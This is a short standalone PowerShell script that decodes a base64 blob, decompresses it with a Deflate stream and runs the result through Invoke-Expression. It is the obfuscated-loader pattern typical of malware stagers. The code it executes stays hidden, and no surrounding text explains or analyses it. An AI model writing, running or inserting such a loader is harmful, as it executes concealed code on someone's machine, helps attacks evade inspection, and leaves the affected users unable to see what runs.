$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('UilQsFVQUknNK7MKcfUNiCkuS9ZLrUhV4vLMK8vPTtUNT00KSi0sTS0uUdANLcpUyCgpKbDS1ze0tNAzNdQzNDDQM9cvSKzMyU9M0UvKzFPQ9S8tccvMSVVQKeAKLkksKtENKMpPTi0uBgkAAgAA//8='))
IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
